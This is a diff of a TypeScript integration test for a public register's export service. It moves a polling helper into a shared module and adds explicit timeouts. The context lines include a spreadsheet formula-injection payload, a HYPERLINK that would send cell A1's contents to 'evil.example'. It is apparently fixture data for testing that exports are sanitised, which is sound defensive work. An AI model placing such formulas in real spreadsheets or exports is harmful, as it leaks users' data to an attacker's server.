@@ -7,6 +7,7 @@ import { UnitOfWork } from '../apps/registry/src/platform/journal/unit-of-work.j
 import { bearer, createOrganisation, createSource, privacyRecordBody, type TestOrganisation, walkPages } from './support/fixtures.js';
 import { generateApiKey } from '../apps/registry/src/api-keys/api-key-secret.js';
 import { createDatabase, describeOnServer, SHARED_LOG_KEY, startTestApp, type TestApp, uniqueSlug } from './support/test-app.js';
+import { until } from './support/wait.js';
 
 const PUBLIC = 'https://plaza.example/register';
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
@@ -193,12 +194,6 @@ describe('full exports of the public register', () => {
       return { ...app, operatorKey };
     };
     const built = async (app: TestApp) => (await app.http.get('/exports')).status === 200;
-    const until = async (what: string, condition: () => Promise<boolean>) => {
-      for (const deadline = Date.now() + 15_000; !(await condition()); ) {
-        if (Date.now() > deadline) throw new Error(`timed out waiting until ${what}`);
-        await sleep(50);
-      }
-    };
 
     beforeAll(async () => {
       database = await createDatabase(process.env.DATABASE_URL!);
@@ -210,14 +205,14 @@ describe('full exports of the public register', () => {
 
     it('builds in the one instance holding the lock, and in another once that one stops', async () => {
       const first = await start();
-      await until('the first instance built an export', () => built(first));
+      await until('the first instance built an export', () => built(first), 15_000);
       const second = await start();
       await createOrganisation(second, uniqueSlug('exp-election'), 'city');
       const size = await second.app.get(UnitOfWork).size();
-      await until('the first instance exported the new size', async () => (await first.http.get('/exports')).body.journalSize === size);
+      await until('the first instance exported the new size', async () => (await first.http.get('/exports')).body.journalSize === size, 15_000);
       expect(await built(second)).toBe(false);
       await first.close();
-      await until('the second instance took over', () => built(second));
+      await until('the second instance took over', () => built(second), 15_000);
       expect((await second.http.get('/exports').expect(200)).body.journalSize).toBe(size);
     }, 120_000);
   });
